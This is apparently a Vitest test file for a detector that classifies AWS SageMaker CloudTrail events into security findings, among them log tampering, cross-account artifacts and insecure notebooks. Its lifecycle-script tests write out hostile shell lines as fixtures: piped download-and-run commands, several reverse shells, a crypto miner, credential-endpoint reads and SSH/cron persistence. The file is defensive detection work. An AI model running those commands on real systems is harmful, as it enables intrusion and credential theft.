import { describe, expect, it } from 'vitest';
import { ACCOUNT, OTHER_ACCOUNT, b64, classify, keyUser, ofRule } from './helpers.js';
// Records shared with each rule's fixtures (rules/<id>/fixtures.ts), whose near-misses rule-fixtures.test.ts checks.
import { createEndpoint, lookAlikeCreateEndpoint } from '../../../src/core/classify/rules/scenario-event/fixtures.js';
import { createOmittingBoth, createRootEnabled, updateAllowingImdsV1, updateEnablingRoot } from '../../../src/core/classify/rules/notebook-insecure-config/fixtures.js';
import { lifecycleConfig as lcc, pipedDownloadBesideRedacted, processingJob, reverseShellOnStart, undecodableOnly } from '../../../src/core/classify/rules/lifecycle-script-suspicious/fixtures.js';
import { domainUrl, notebookUrl } from '../../../src/core/classify/rules/presigned-url-access/fixtures.js';
import { processingJobByKeyUser, role, trainingJobPassingRole } from '../../../src/core/classify/rules/execution-role-passed/fixtures.js';
import { gpuEndpointConfig, gpuTuningJob, midSizeTraining, smallNotebook, veryLargeCpu } from '../../../src/core/classify/rules/large-instance-type/fixtures.js';
import {
  foreignImage as image,
  foreignKey as key,
  foreignModelIsolated,
  foreignModelNotIsolated,
  trainingJobWithForeignImageAndKey,
  transformToForeignAccessPoint,
} from '../../../src/core/classify/rules/cross-account-artifact/fixtures.js';
import { deleteOtherLogGroup, deleteSageMakerLogGroup, deniedDeleteTrail, shortRetentionOnEndpointLogs, stopLogging, trail } from '../../../src/core/classify/rules/log-tampering/fixtures.js';

describe('scenario-event', () => {
  it('flags a successful scenario call once, listing every matched scenario, weak and never above low', () => {
    // AWS's documented CreateEndpoint example, with this project's example account.
    const r = createEndpoint;
    const [f, ...rest] = ofRule(classify([r]), 'scenario-event');
    expect(rest).toEqual([]);
    expect(f).toMatchObject({
      id: `scenario-event:${r.eventID}`,
      scenarios: ['data-poisoning', 'resource-misuse', 'denial-of-service'],
      // info by the name alone; the long-term key raises it one level, to the rule's ceiling
      severity: 'low',
      signals: [{ id: 'long-term-key', kind: 'caller', effect: 'raise', detail: 'long-term access key AKIAIOSFODNN7EXAMPLE through aws-cli' }],
      confidence: 'weak',
      region: 'us-west-2',
      account: ACCOUNT,
      eventName: 'CreateEndpoint',
      resources: [`arn:aws:sagemaker:us-west-2:${ACCOUNT}:endpoint/exampleendpoint`],
      principal: { arn: keyUser.arn, type: 'IAMUser', accessKeyId: 'AKIAIOSFODNN7EXAMPLE', key: keyUser.arn },
    });
    expect(f?.reason).toContain('data-poisoning, resource-misuse, denial-of-service');
    expect(f?.mitre).toEqual(['T1565.001', 'T1496.001', 'T1499']);
  });

  it('ignores the look-alike source metrics-sagemaker.amazonaws.com entirely', () => {
    expect(classify([lookAlikeCreateEndpoint])).toEqual([]);
  });
});

describe('cross-account-artifact: a foreign image and network isolation', () => {
  it('is high without network isolation and says the container reaches the internet', () => {
    const [f] = ofRule(classify([foreignModelNotIsolated]), 'cross-account-artifact');
    expect(f?.severity).toBe('high');
    expect(f?.reason).toMatch(/no network isolation: the foreign container reaches the internet\)$/);
    expect(f?.evidence.networkIsolation).toBe(false);
  });

  it('is medium with network isolation on (foreign code still, less reach)', () => {
    const [f] = ofRule(classify([foreignModelIsolated]), 'cross-account-artifact');
    expect(f?.severity).toBe('medium');
    expect(f?.reason).toMatch(/\(network isolation on\)$/);
    expect(f?.evidence.networkIsolation).toBe(true);
  });

  it('says nothing of isolation when no image is foreign (a key of another account)', () => {
    const [f] = ofRule(classify([transformToForeignAccessPoint]), 'cross-account-artifact');
    expect(f?.evidence.networkIsolation).toBeUndefined();
  });
});

describe('notebook-insecure-config', () => {
  it('flags both settings enabled by default when a create request omits them', () => {
    const [f] = ofRule(classify([createOmittingBoth]), 'notebook-insecure-config');
    expect(f?.severity).toBe('medium');
    expect(f?.reason).toBe(
      'CreateNotebookInstance with RootAccess Enabled (by default: not set in the request) and DirectInternetAccess Enabled (by default: not set in the request) and no VPC (SubnetId not set)',
    );
    expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: true, directInternetAccess: 'Enabled', directInternetAccessByDefault: true, subnetIdMissing: true });
    expect(f?.resources).toEqual([`arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-1`]);
  });

  it('flags an explicit Enabled and says it was explicit', () => {
    const [f] = ofRule(classify([createRootEnabled]), 'notebook-insecure-config');
    expect(f?.reason).toBe('CreateNotebookInstance with RootAccess Enabled');
    expect(f?.evidence).toEqual({ rootAccess: 'Enabled', rootAccessByDefault: false });
  });

  it('flags IMDSv1 allowed on an update, and says nothing of the VPC an update cannot change', () => {
    const [f] = ofRule(classify([updateAllowingImdsV1]), 'notebook-insecure-config');
    expect(f?.reason).toBe('UpdateNotebookInstance with IMDSv1 allowed (MinimumInstanceMetadataServiceVersion 1)');
    expect(f?.evidence).toEqual({ minimumInstanceMetadataServiceVersion: '1' });
    expect(f?.severity).toBe('medium');
  });

  it('flags an update that enables root access', () => {
    const [f] = ofRule(classify([updateEnablingRoot]), 'notebook-insecure-config');
    expect(f?.reason).toBe('UpdateNotebookInstance with RootAccess Enabled');
    expect(f?.resources).toEqual(['nb-1']);
  });
});

describe('lifecycle-script-suspicious', () => {
  it('reads a job container\'s entrypoint and arguments as one shell line', () => {
    const [f] = ofRule(classify([processingJob(['bash', '-c'], ['wget -q http://198.51.100.7/x -O- | bash'])]), 'lifecycle-script-suspicious');
    expect(f?.evidence).toMatchObject({ hook: 'container command', line: 'bash -c wget -q http://198.51.100.7/x -O- | bash', indicators: ['download and execute: piped to a shell'] });
    expect(f?.severity).toBe('critical');
  });

  it('decodes OnStart and shows the reverse-shell line and its hook', () => {
    const [f] = ofRule(classify([reverseShellOnStart]), 'lifecycle-script-suspicious');
    expect(f).toMatchObject({ severity: 'critical', confidence: 'strong', resources: ['lcc-1'] });
    expect(f?.evidence).toEqual({
      hook: 'OnStart',
      line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      indicators: ['reverse shell: /dev/tcp redirection', 'reverse shell: interactive bash'],
      matchingLines: ['OnStart: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
    });
    expect(f?.reason).toBe('OnStart script: reverse shell: /dev/tcp redirection; reverse shell: interactive bash: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
  });

  it.each([
    ['curl -fsSL http://198.51.100.7/x.sh | sudo bash', 'download and execute: piped to a shell'],
    ['wget -O- http://198.51.100.7/i | sh', 'download and execute: piped to a shell'],
    ['nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4A... &', 'crypto miner'],
    ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ > /tmp/c', 'instance metadata credentials (IMDS)'],
    ['curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'container credentials endpoint'],
    ['echo "ssh-ed25519 AAAAC3Nza attacker" >> /home/ec2-user/.ssh/authorized_keys', 'ssh key persistence'],
    ['(crontab -l; echo "*/5 * * * * curl http://198.51.100.7/b | sh") | crontab -', 'cron persistence'],
    ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f', 'reverse shell: named pipe (mkfifo)'],
    ['nc -e /bin/sh 198.51.100.7 4444', 'reverse shell: netcat -e / -c'],
    [`python3 -c 'import socket,subprocess,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));pty.spawn("/bin/sh")'`, 'reverse shell: python socket with pty'],
  ])('flags %s', (line, label) => {
    const [f] = ofRule(classify([lcc([], [b64(`#!/bin/bash\n${line}\n`)])]), 'lifecycle-script-suspicious');
    expect(f?.evidence.hook).toBe('OnCreate');
    expect(f?.evidence.line).toBe(line);
    expect(f?.evidence.indicators).toContain(label);
  });

  it('survives content that is not base64 and still reports the other hook', () => {
    const [f] = ofRule(classify([pipedDownloadBesideRedacted]), 'lifecycle-script-suspicious');
    expect(f?.evidence.undecodableHooks).toEqual(['OnCreate']);
    expect(f?.evidence.hook).toBe('OnStart');
    expect(ofRule(classify([undecodableOnly]), 'lifecycle-script-suspicious')).toEqual([]);
  });
});

describe('presigned-url-access', () => {
  it('flags a presigned notebook URL with the caller address', () => {
    const [f] = ofRule(classify([notebookUrl]), 'presigned-url-access');
    expect(f?.reason).toBe('presigned URL created for nb-1 from 203.0.113.10');
    expect(f?.evidence).toEqual({ notebookInstanceName: 'nb-1', sessionExpirationDurationInSeconds: 1800 });
  });

  it('flags a presigned Studio domain URL', () => {
    expect(ofRule(classify([domainUrl]), 'presigned-url-access')[0]?.reason).toBe('presigned URL created for d-abcdef123456/alice from 203.0.113.10');
  });
});

describe('execution-role-passed', () => {
  it('flags a passed role, at medium for temporary credentials', () => {
    const [f] = ofRule(classify([trainingJobPassingRole]), 'execution-role-passed');
    expect(f).toMatchObject({ severity: 'medium', evidence: { roleArn: role, callerCredential: 'temporary credentials' } });
    expect(f?.resources).toEqual(['tj-1', role]);
    expect(f?.reason).toBe(`CreateTrainingJob passed role ${role} (caller used temporary credentials)`);
  });

  it('raises severity when the caller used a long-term access key', () => {
    expect(ofRule(classify([processingJobByKeyUser]), 'execution-role-passed')[0]).toMatchObject({ severity: 'high', evidence: { callerCredential: 'long-term access key' } });
  });
});

describe('large-instance-type', () => {
  it('finds GPU types anywhere in the request: endpoint variants, tuning job definitions', () => {
    const found = ofRule(classify([gpuEndpointConfig, gpuTuningJob]), 'large-instance-type');
    expect(found.map((f) => f.evidence.instanceTypes)).toEqual([['ml.g5.2xlarge'], ['ml.p4d.24xlarge']]);
    expect(found[0]?.reason).toBe('CreateEndpointConfig asked for ml.g5.2xlarge (GPU/accelerated family)');
  });

  it('flags a very large CPU size but not ordinary CPU instances', () => {
    const found = ofRule(classify([veryLargeCpu, smallNotebook, midSizeTraining]), 'large-instance-type');
    expect(found.map((f) => f.reason)).toEqual(['CreateProcessingJob asked for ml.c5.18xlarge (size >= 12xlarge)']);
  });
});

describe('cross-account-artifact', () => {
  it('flags an ECR image and a KMS key of another account, with the field paths', () => {
    const [f] = ofRule(classify([trainingJobWithForeignImageAndKey]), 'cross-account-artifact');
    expect(f?.evidence).toEqual({
      artifacts: [`algorithmSpecification.trainingImage: ${image}`, `outputDataConfig.kmsKeyId: ${key}`],
      foreignAccounts: [OTHER_ACCOUNT],
      eventAccount: ACCOUNT,
      networkIsolation: false,
    });
    expect(f?.resources).toEqual([image, key]);
    expect(f?.reason).toContain(`2 artifacts in account ${OTHER_ACCOUNT} (event account ${ACCOUNT})`);
  });

  it('reads the account of an S3 access point ARN used as output', () => {
    expect(ofRule(classify([transformToForeignAccessPoint]), 'cross-account-artifact')[0]?.evidence.foreignAccounts).toEqual([OTHER_ACCOUNT]);
  });
});

describe('log-tampering', () => {
  it('flags StopLogging on a trail', () => {
    const [f] = ofRule(classify([stopLogging]), 'log-tampering');
    expect(f).toMatchObject({ severity: 'high', scenarios: ['log-tampering'], reason: `StopLogging on ${trail}`, evidence: { target: trail, succeeded: true } });
  });

  it('flags a denied DeleteTrail attempt as an attempt', () => {
    expect(ofRule(classify([deniedDeleteTrail]), 'log-tampering')[0]?.reason).toBe(`attempted DeleteTrail on ${trail} (failed: AccessDenied)`);
  });

  it('flags deletions and retention changes only on /aws/sagemaker/ log groups', () => {
    const found = ofRule(classify([deleteSageMakerLogGroup, shortRetentionOnEndpointLogs, deleteOtherLogGroup]), 'log-tampering');
    expect(found.map((f) => f.reason)).toEqual(['DeleteLogGroup on /aws/sagemaker/TrainingJobs', 'PutRetentionPolicy on /aws/sagemaker/Endpoints/ep-1']);
    expect(found[1]?.evidence.retentionInDays).toBe(1);
  });
});
